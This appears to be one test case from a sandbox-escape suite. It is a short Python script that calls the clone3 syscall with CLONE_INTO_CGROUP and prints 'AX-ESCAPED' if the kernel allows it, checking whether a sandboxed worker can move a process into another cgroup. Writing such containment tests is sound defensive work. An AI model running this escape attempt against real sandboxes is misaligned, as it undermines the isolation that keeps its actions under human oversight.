# ax-id: AX-own-303-clone-into-cgroup
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: cgroups
# ax-source: clone3 with CLONE_INTO_CGROUP
# ax-escaped: marker
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
arguments = (ctypes.c_uint64 * 11)(0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
result = call(435, ctypes.byref(arguments), 88)
if result == 0:
    os._exit(0)
print('AX-ESCAPED', result) if result > 0 else print('refused', ctypes.get_errno())
